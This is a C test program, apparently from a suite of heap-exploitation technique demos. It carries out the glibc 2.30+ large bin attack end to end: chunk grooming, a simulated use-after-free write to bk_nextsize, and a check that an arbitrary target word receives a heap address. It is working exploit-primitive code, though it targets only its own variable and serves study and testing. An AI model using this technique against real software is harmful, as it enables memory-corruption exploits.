/* tech-large-bin-attack (the glibc 2.30+ form): with chunk P1 in a large
   bin, a write after free sets its bk_nextsize to the target minus 0x20.
   When a smaller chunk P2 of the same bin is sorted in, glibc takes the
   branch for a new smallest chunk, which does not check the nextsize
   links, and stores P2's address through P1's bk_nextsize.  Goal: the
   target word holds a heap address (P2's chunk).  */

#include "tech-support.h"

static size_t target_word;

int
main (void)
{
  tech_begin ("large bin attack");
  size_t *p1 = tech_keep (malloc (0x428)); /* chunk 0x430 */
  malloc (0x18);               /* keeps p1 and p2 apart */
  size_t *p2 = tech_keep (malloc (0x418)); /* chunk 0x420: the same large bin */
  malloc (0x18);               /* keeps p2 from the top */

  free (p1);
  malloc (0x438); /* sorts p1 into its large bin */
  free (p2);      /* into the unsorted bin */

  /* Write after free: p1's bk_nextsize.  */
  struct tech_chunk *c1 = tech_chunk_of (p1);
  c1->bk_nextsize = (void *) ((uintptr_t) &target_word - 0x20);
  tst_info ("p1 %p: bk_nextsize set to &target_word - 0x20", p1);
  malloc (0x438); /* sorts p2 into the large bin */

  size_t seen = *(volatile size_t *) &target_word;
  tst_info ("target_word is now %#zx; p2's chunk is %p", seen,
            (void *) tech_chunk_of (p2));
  tech_result (seen == (size_t) tech_chunk_of (p2),
               "the target word was overwritten with p2's chunk address %#zx",
               seen);
}
